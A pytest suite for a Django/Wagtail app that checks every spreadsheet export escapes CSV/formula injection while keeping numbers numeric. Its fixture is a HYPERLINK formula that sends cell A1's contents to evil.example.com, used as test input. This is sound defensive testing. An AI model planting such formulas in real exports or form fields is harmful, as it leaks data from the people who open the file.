"""Text a team or applicant typed never runs as a formula in a spreadsheet export (OWASP CSV injection).

Every export (the team's assignment CSV/Excel, the cohort progress workbook, the coaching reports and
the admin listings) writes a cell that begins with = + - @, a tab or a carriage return with a
leading single quote, and keeps real numbers as numbers.
"""

import csv
import datetime
import io

import pytest
import time_machine
from django.urls import reverse
from openpyxl import load_workbook
from wagtail.admin.views.mixins import SpreadsheetExportMixin

from accounts.admin_views import SafeSpreadsheetExportMixin
from accounts.spreadsheets import safe_cell
from cms.demo import factories as f
from cohorts.assignments.services import submission_for, submission_save_draft
from cohorts.progress.models import EvidenceKind, ProgressStatus
from cohorts.progress.services import evidence_add, progress_mark, progress_verify
from sprints.models import AssignmentKind
from tests.export_helpers import csv_tables, header_block, sheet_table

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example.com/?d="&A1,"Click")'
INERT = "'" + FORMULA


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (FORMULA, INERT),
        ("+1 555 0100", "'+1 555 0100"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Plain text", "Plain text"),
        ("", ""),
        (None, None),
        (-3, -3),
        (-1.5, -1.5),
        ("-12.5", "-12.5"),  # a number written as text is no formula
        ("+7", "+7"),
    ],
)
def test_safe_cell_neutralises_formulas_and_keeps_numbers(value, expected):
    assert safe_cell(value) == expected


def _csv_rows(response):
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def _xlsx_cells(response, sheet=None):
    content = b"".join(response.streaming_content) if response.streaming else response.content
    workbook = load_workbook(io.BytesIO(content))
    worksheet = workbook[sheet] if sheet else workbook.worksheets[0]
    return [list(row) for row in worksheet.iter_rows()]


def _assert_inert_xlsx_cell(cells, value=INERT):
    [cell] = [cell for row in cells for cell in row if isinstance(cell.value, str) and FORMULA in cell.value]
    assert cell.data_type == "s"
    assert cell.value == value


# The team's assignment exports


@pytest.fixture
def journey(client):
    member = f.MembershipFactory(team__name=FORMULA)
    template = f.AssignmentTemplateFactory(
        program=member.team.cohort.program, kind=AssignmentKind.VENDOR_JOURNEY_MAP
    )
    submission_save_draft(
        submission=submission_for(team=member.team, template=template),
        content={"stages": [{"name": FORMULA, "pain_points": "-1+1"}]},
        revision=0,
        user=member.user,
    )
    client.force_login(member.user)
    return reverse("cohorts:assignment_export", args=[member.team.pk, template.pk, "csv"])[: -len("csv")]


def test_assignment_csv_export_is_inert(client, journey):
    response = client.get(journey + "csv")
    table = csv_tables(response.content.decode("utf-8-sig"))["Vendor journey map"]
    assert table[1][0] == "1"  # the row number stays a number
    assert table[1][1] == INERT
    assert table[1][4] == "'-1+1"
    assert header_block(_csv_rows(response))["Team"] == INERT  # the header block too


def test_assignment_xlsx_export_is_inert(client, journey):
    content = client.get(journey + "xlsx").content
    cells = sheet_table(load_workbook(io.BytesIO(content))["Vendor journey map"])
    _assert_inert_xlsx_cell(cells)
    assert cells[1][0].value == 1 and cells[1][0].data_type == "n"


# The cohort progress workbook


def test_cohort_progress_xlsx_is_inert(client, staff_user):
    item = f.ChecklistItemFactory(criterion=f.CriterionFactory(code="RDC7", required_count=1))
    team = f.TeamFactory(name=FORMULA)
    member = f.MembershipFactory(team=team).user
    evidence_add(team=team, item=item, user=member, kind=EvidenceKind.LINK, url="https://data.example.gov")
    progress = progress_mark(team=team, item=item, user=member, status=ProgressStatus.MET)
    progress_verify(progress=progress, coach=staff_user, comment="@SUM(1)")
    client.force_login(staff_user)
    response = client.get(reverse("cohorts_progress_export", args=[team.cohort_id]))
    _assert_inert_xlsx_cell(_xlsx_cells(response, "Summary"))
    detail = _xlsx_cells(response, "Items")
    _assert_inert_xlsx_cell(detail)
    assert detail[1][7].value == "'@SUM(1)"
    assert detail[1][8].value == 1 and detail[1][8].data_type == "n"  # the evidence count


# The coaching reports (Wagtail ReportView)

TODAY = datetime.datetime(2027, 3, 5, 12, 0, tzinfo=datetime.UTC)


@pytest.fixture
def report_client(client, staff_user):
    from tests.coaching_helpers import make_coach

    coach = make_coach(full_name="Xavier Coach")
    team = f.TeamFactory(name=FORMULA)
    f.CoachAssignmentFactory(team=team, coach=coach)
    f.TASessionFactory(
        team=team, coach=coach, starts_at=datetime.datetime(2027, 3, 2, 15, tzinfo=datetime.UTC), minutes=90
    )
    with time_machine.travel(TODAY, tick=False):
        client.force_login(staff_user)
        yield client


def test_coaching_report_csv_is_inert(report_client):
    table = _csv_rows(report_client.get(reverse("coaching_ta_hours:index"), {"export": "csv"}))
    assert table[1] == ["2027-03", table[1][1], INERT, "Xavier Coach", "1", "1.5"]


def test_coaching_report_xlsx_is_inert(report_client):
    cells = _xlsx_cells(report_client.get(reverse("coaching_ta_hours:index"), {"export": "xlsx"}))
    _assert_inert_xlsx_cell(cells)
    assert cells[1][4].value == 1 and cells[1][5].value == 1.5  # numbers stay numbers


# The admin listings (Wagtail IndexView)


@pytest.fixture
def registration():
    registration = f.RegistrationFactory(team_name=FORMULA, city="-Tulsa")
    f.RegistrationMemberFactory(registration=registration)
    return registration


def test_admin_listing_csv_is_inert(staff_client, registration):
    table = _csv_rows(staff_client.get(reverse("registration:index"), {"export": "csv"}))
    row = table[1]
    assert row[1] == INERT
    assert row[2] == "'-Tulsa"
    assert row[7] == "1"


def test_admin_listing_xlsx_is_inert(staff_client, registration):
    cells = _xlsx_cells(staff_client.get(reverse("registration:index"), {"export": "xlsx"}))
    _assert_inert_xlsx_cell(cells)
    assert cells[1][2].value == "'-Tulsa"
    assert cells[1][7].value == 1 and cells[1][7].data_type == "n"


def _admin_views():
    from django.urls import URLResolver, get_resolver

    def walk(patterns):
        for pattern in patterns:
            if isinstance(pattern, URLResolver):
                yield from walk(pattern.url_patterns)
            else:
                yield pattern

    for pattern in walk(get_resolver().url_patterns):
        view_class = getattr(pattern.callback, "view_class", None)
        if view_class and issubclass(view_class, SpreadsheetExportMixin):
            yield pattern.name, view_class


def test_every_project_export_view_neutralises_formulas():
    """A new viewset or report of ours gets the safe export without opting in."""
    ours = ("accounts", "notifications", "cms", "cohorts", "coaching", "sprints")
    project_views = [
        (name, view_class)
        for name, view_class in _admin_views()
        if view_class.__module__.split(".")[0] in ours
        or view_class.__module__ == "wagtail.admin.views.generic.models"
    ]
    assert len(project_views) > 20
    unsafe = [
        name for name, view_class in project_views if not issubclass(view_class, SafeSpreadsheetExportMixin)
    ]
    assert unsafe == []
